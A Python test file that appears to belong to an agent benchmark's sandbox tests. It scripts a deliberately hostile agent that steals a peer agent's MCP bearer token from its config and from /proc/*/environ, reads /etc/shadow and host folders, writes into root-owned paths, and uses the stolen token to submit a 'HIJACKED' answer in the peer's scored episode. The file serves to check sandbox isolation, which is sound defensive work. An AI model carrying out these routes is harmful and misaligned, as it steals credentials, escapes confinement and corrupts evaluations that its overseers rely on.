"""A hostile command agent that tries every route to gold and to the agent beside it, and a loopback rendezvous.

Two of these run side by side in one run (``test_sandbox.py``, ``bench/agent_probes.py``). Each one starts its
own episode honestly, meets its peer through :class:`Rendezvous` (a small loopback HTTP server in the test's
process, which also tells it where the gold copies are: the worst case, an agent that knows every path), then:

* reads the peer's home and MCP config (its token), scans ``/proc/*/environ`` for other agents' settings,
  and drives the peer's endpoint with no token, with its own token and with any token it stole (a stolen token
  is used to answer in the peer's episode: the hijack the third security pass found);
* reads ``/etc/shadow``, the host's home, the repository checkout, the workspace, another workspace, exports,
  a backup and the repository's published examples, and writes into the root filesystem, the host's ``/tmp``
  and a root-owned folder;
* answers its own episode and waits until its peer is done too (so that both endpoints stay up meanwhile).

Each route is recorded as ``{"route": ..., "ok": bool, "said": ...}``; ``ok`` means the agent got through.
The record is printed as one JSON line (stdout goes to ``agent.stdout.log``). Run as
``python hostile.py NAME RENDEZVOUS_URL``; the agent script needs only the standard library and fastmcp.
"""

from __future__ import annotations

import glob
import json
import os
import sys
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

WAIT_S = 60.0  # how long the rendezvous holds a request for the peer (bounded: a lone agent fails, it does not hang)


# -- the test's side --------------------------------------------------------------------------------------------------


class Rendezvous:
    """Where the agents of one run meet: ``POST /hello``, ``GET /peer/NAME``, ``GET /targets``, ``POST /done``, ``GET /all-done``."""

    def __init__(self, targets: dict[str, str], names: list[str]) -> None:
        self.targets, self.names = targets, names
        self.hello: dict[str, dict[str, Any]] = {}
        self.done: set[str] = set()
        self.changed = threading.Condition()

    @contextmanager
    def serve(self) -> Iterator[str]:
        """Serve on 127.0.0.1 until the context ends; yields the base URL."""
        meet = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:  # quiet
                return

            def _answer(self, data: object, status: int = 200) -> None:
                body = json.dumps(data).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:  # noqa: N802 - http.server's name
                data = json.loads(self.rfile.read(int(self.headers.get("Content-Length", "0"))) or b"{}")
                with meet.changed:
                    if self.path == "/hello":
                        meet.hello[data["name"]] = data
                    elif self.path == "/done":
                        meet.done.add(data["name"])
                    meet.changed.notify_all()
                self._answer({"ok": True})

            def do_GET(self) -> None:  # noqa: N802
                if self.path == "/targets":
                    return self._answer(meet.targets)
                with meet.changed:
                    if self.path.startswith("/peer/"):
                        me = self.path.rsplit("/", 1)[1]
                        meet.changed.wait_for(lambda: any(n != me for n in meet.hello), timeout=WAIT_S)
                        peer = next((v for n, v in meet.hello.items() if n != me), None)
                        return self._answer(peer or {}, 200 if peer else 504)
                    if self.path == "/all-done":
                        ok = meet.changed.wait_for(lambda: meet.done >= set(meet.names), timeout=WAIT_S)
                        return self._answer({"ok": ok}, 200 if ok else 504)
                self._answer({"error": "no such route"}, 404)

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_address[1]}"
        finally:
            server.shutdown()
            server.server_close()
            thread.join(timeout=5)


# -- the agent's side -------------------------------------------------------------------------------------------------

record: dict[str, Any] = {"routes": [], "errors": []}


def note(route: str, ok: bool, said: str) -> None:
    record["routes"].append({"route": route, "ok": ok, "said": said[:300]})


def read(route: str, path: str) -> str | None:
    """Try to read a file (or list a folder); note whether it worked."""
    try:
        if os.path.isdir(path):
            text = "\n".join(sorted(os.listdir(path)))
        else:
            with open(path, "rb") as handle:
                text = handle.read(200_000).decode("utf-8", errors="replace")
    except OSError as exc:
        note(route, False, f"{type(exc).__name__}: {exc.strerror}")
        return None
    note(route, True, f"read {len(text)} characters")
    return text


def write(route: str, path: str) -> None:
    try:
        with open(path, "w", encoding="utf-8") as handle:
            handle.write(f"written by {record['name']}\n")
    except OSError as exc:
        note(route, False, f"{type(exc).__name__}: {exc.strerror}")
        return
    note(route, True, f"wrote {path}")


def http(method: str, url: str, body: object | None = None) -> Any:
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data=data, method=method, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=WAIT_S + 10) as answer:
        return json.loads(answer.read() or b"null")


def post_mcp(url: str, token: str | None) -> int:
    """The status an MCP ``initialize`` gets at ``url`` with ``token`` (or none)."""
    body = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "hostile", "version": "1"}}}
    headers = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    request = urllib.request.Request(url, data=json.dumps(body).encode(), method="POST", headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as exc:
        return int(exc.code)


def token_in(config_text: str | None) -> str | None:
    if not config_text:
        return None
    entry = json.loads(config_text)["mcpServers"]["taskloom"]
    bearer = (entry.get("headers") or {}).get("Authorization", "")
    return bearer.removeprefix("Bearer ") or (entry.get("env") or {}).get("TASKLOOM_BRIDGE_TOKEN")


async def hijack(url: str, token: str) -> str:
    """With a stolen token, answer in the peer's episode (the newest trajectory is the one scored)."""
    from fastmcp import Client
    from fastmcp.client.transports import StreamableHttpTransport

    async with Client(StreamableHttpTransport(url, headers={"Authorization": f"Bearer {token}"}), timeout=60) as client:
        await client.call_tool("env_start", {})
        await client.call_tool("env_answer", {"answer": f"HIJACKED by {record['name']}"})
        await client.call_tool("env_close", {})
    return "answered in the peer's episode"


def attack_peer(peer: dict[str, Any], own_token: str) -> None:
    import anyio

    read("peer home (listing)", peer["home"])
    stolen = token_in(read("peer token (its MCP config)", peer["config"]))
    status = post_mcp(peer["url"], None)
    note("peer endpoint, no token", status < 300, f"HTTP {status}")
    status = post_mcp(peer["url"], own_token)
    note("peer endpoint, own token", status < 300, f"HTTP {status}")
    if stolen:
        try:
            note("peer endpoint, stolen token (hijack)", True, anyio.run(hijack, peer["url"], stolen))
        except Exception as exc:  # noqa: BLE001 - a hostile agent records every refusal
            note("peer endpoint, stolen token (hijack)", False, f"{type(exc).__name__}: {exc}")
    else:
        note("peer endpoint, stolen token (hijack)", False, "no token to steal")
    others = []
    for environ in glob.glob("/proc/[0-9]*/environ"):
        if environ.split("/")[2] == str(os.getpid()):
            continue
        try:
            text = Path(environ).read_bytes().decode("utf-8", errors="replace")
        except OSError:
            continue
        if "TASKLOOM_MCP_CONFIG" in text or "TASKLOOM_BRIDGE_TOKEN" in text:
            others.append(environ)
    note("another agent's /proc/PID/environ", bool(others), f"{len(others)} readable" if others else "none readable")
    own = os.environ.get("HOME", "")
    try:  # the folder holding its own home: listing it would name the peer's home (and so its uid)
        homes = [n for n in os.listdir(os.path.dirname(own)) if n.startswith("taskloom-agent-") and n != os.path.basename(own)]
        note("other agent homes listed in /tmp", bool(homes), f"{len(homes)} seen in {os.path.dirname(own)}")
    except OSError as exc:
        note("other agent homes listed in /tmp", False, f"{type(exc).__name__}: {exc.strerror} ({os.path.dirname(own)})")


def probe_host(targets: dict[str, str]) -> None:
    for label, path in targets.items():
        if label.startswith("write "):
            write(label, path)
        else:
            read(label, path)
    status = Path("/proc/self/status").read_text()
    fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
    uid, cap = os.getuid(), int(fields.get("CapEff", "0").strip(), 16)
    note("runs as uid 0", uid == 0, f"uid {uid}")
    note("holds capabilities", cap != 0, f"CapEff {cap:x}")


async def episode(config: dict[str, Any], base: str, name: str) -> None:
    from fastmcp import Client
    from fastmcp.client.transports import StreamableHttpTransport

    entry = config["mcpServers"]["taskloom"]
    own_token = token_in(json.dumps(config)) or ""
    async with Client(StreamableHttpTransport(entry["url"], headers=entry.get("headers") or {}), timeout=60) as client:
        await client.call_tool("env_start", {})
        http("POST", f"{base}/hello", {"name": name, "url": entry["url"], "home": os.environ.get("HOME", ""), "config": os.environ["TASKLOOM_MCP_CONFIG"]})
        peer = http("GET", f"{base}/peer/{name}")
        record["peer"] = peer
        try:
            import anyio

            await anyio.to_thread.run_sync(attack_peer, peer, own_token)
            await anyio.to_thread.run_sync(probe_host, http("GET", f"{base}/targets"))
        except Exception as exc:  # noqa: BLE001 - keep going: the episode must still be done
            record["errors"].append(f"{type(exc).__name__}: {exc}")
        for tool, args in (("env_answer", {"answer": f"honest answer of {name}"}), ("env_close", {})):
            done = await client.call_tool(tool, args, raise_on_error=False)
            if done.is_error:  # e.g. a peer with this episode's token closed it
                record["errors"].append(f"{tool}: {done.content}")
    http("POST", f"{base}/done", {"name": name})
    http("GET", f"{base}/all-done")


def main() -> None:
    import anyio

    name, base = sys.argv[1], sys.argv[2]
    record["name"] = name
    config = json.loads(Path(os.environ["TASKLOOM_MCP_CONFIG"]).read_text(encoding="utf-8"))
    record["url"] = config["mcpServers"]["taskloom"]["url"]
    anyio.run(episode, config, base, name)
    print(json.dumps(record, ensure_ascii=False), flush=True)


if __name__ == "__main__":
    main()
